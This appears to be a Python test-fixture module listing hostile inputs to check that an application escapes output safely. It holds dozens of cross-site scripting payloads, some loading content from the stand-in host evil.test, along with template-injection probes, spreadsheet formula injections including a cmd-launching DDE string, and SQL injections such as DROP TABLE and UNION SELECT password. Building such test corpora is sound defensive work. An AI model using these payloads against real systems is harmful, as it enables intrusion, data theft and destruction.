"""What somebody may write to have a reader's browser run it (T2), a spreadsheet (T7) or the
database (T8). Each of T2 carries MARK, so that it is known again wherever it comes out."""

MARK = "xq7"

_WRITTEN = r"""
<script>alert('MARK')</script>
<SCRIPT SRC=//evil.test/MARK.js></SCRIPT>
<scr<script>ipt>alert('MARK')</scr</script>ipt>
<script>alert('MARK')//
"><script>alert('MARK')</script>
'><script>alert('MARK')</script>
</script><script>alert('MARK')</script>
</title><script>alert('MARK')</script>
</textarea><script>alert('MARK')</script>
</style><script>alert('MARK')</script>
</option></select><script>alert('MARK')</script>
--><script>alert('MARK')</script>
]]><script>alert('MARK')</script>
<img src=x onerror=alert('MARK')>
<img src="https://evil.test/MARK.png">
<img srcset="https://evil.test/MARK.png 1x">
<IMG ""><SCRIPT>alert("MARK")</SCRIPT>">
<image src=x onerror=alert('MARK')>
<svg onload=alert('MARK')>
<svg><script>alert('MARK')</script></svg>
<svg><a xlink:href="javascript:alert('MARK')"><text>x</text></a></svg>
<svg><animate onbegin=alert('MARK') attributeName=x dur=1s>
<math><mtext><mglyph><style><img src=x onerror=alert('MARK')></style></mglyph></mtext></math>
<body onload=alert('MARK')>
<iframe src="javascript:alert('MARK')"></iframe>
<iframe srcdoc="<script>alert('MARK')</script>"></iframe>
<object data="javascript:alert('MARK')"></object>
<embed src="//evil.test/MARK.swf">
<applet code="MARK"></applet>
<link rel=stylesheet href="//evil.test/MARK.css">
<style>@import '//evil.test/MARK.css';</style>
<style>body{background:url(//evil.test/MARK)}</style>
<div style="background:url(//evil.test/MARK)">x</div>
<meta http-equiv=refresh content="0;url=javascript:alert('MARK')">
<base href="//evil.test/MARK/">
<form action="//evil.test/MARK"><button>x</button></form>
<button formaction="javascript:alert('MARK')">x</button>
<input autofocus onfocus=alert('MARK')>
<details open ontoggle=alert('MARK')>
<video><source onerror=alert('MARK')></video>
<video poster="//evil.test/MARK"></video>
<audio src="//evil.test/MARK" autoplay></audio>
<marquee onstart=alert('MARK')>x</marquee>
<a href="javascript:alert('MARK')">x</a>
<a href="data:text/html,<script>alert('MARK')</script>">x</a>
<a href="https://evil.test/MARK" target=_blank>x</a>
<template><script>alert('MARK')</script></template>
<noscript><p title="</noscript><img src=x onerror=alert('MARK')>">
<x onclick=alert('MARK')>x</x>
" onmouseover="alert('MARK')
' onmouseover='alert(`MARK`)
` onmouseover=alert('MARK')
" autofocus onfocus="alert('MARK')" x="
javascript:alert('MARK')
JaVaScRiPt:alert('MARK')
data:text/html;base64,PHNjcmlwdD5hbGVydCgneHE3Jyk8L3NjcmlwdD4=MARK
vbscript:msgbox("MARK")
{{ 7*7 }}MARK{{ config }}
{% for x in ().__class__.__base__.__subclasses__() %}MARK{% endfor %}
${7*7}MARK#{7*7}
&lt;script&gt;alert('MARK')&lt;/script&gt;
&#60;script&#62;alert('MARK')&#60;/script&#62;
+ADw-script+AD4-alert('MARK')+ADw-/script+AD4-
\u003cscript\u003ealert('MARK')\u003c/script\u003e
%3Cscript%3Ealert('MARK')%3C/script%3E
"""
SCRIPTS = tuple(line.replace("MARK", MARK) for line in _WRITTEN.strip().splitlines())

FORMULAS = (
    "=1+1", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1+1", "＝1+1",
    '=HYPERLINK("http://evil.test")', "=cmd|' /C calc'!A0",
)  # fmt: skip

QUESTIONS = (
    "' OR '1'='1", "'; DROP TABLE event; --", '" OR ""="',
    "1) UNION SELECT password FROM account--", "%", "_", "\\", "\0", "\ud800", "x" * 300, '"',
    '""', "NEAR(a b)", "a AND", "OR", "NOT", "*", "a*b*", "^a", "col:val", "{a b}", "(((", "-",
    "-a", "a\n\rb", "$1", ":asked", "?", "NULL", "0x7f", "1e999", "99999999999999999999", "-1",
    "2024-02-30", "\u202e\u200b", "٣", "ß", "🜏",
)  # fmt: skip
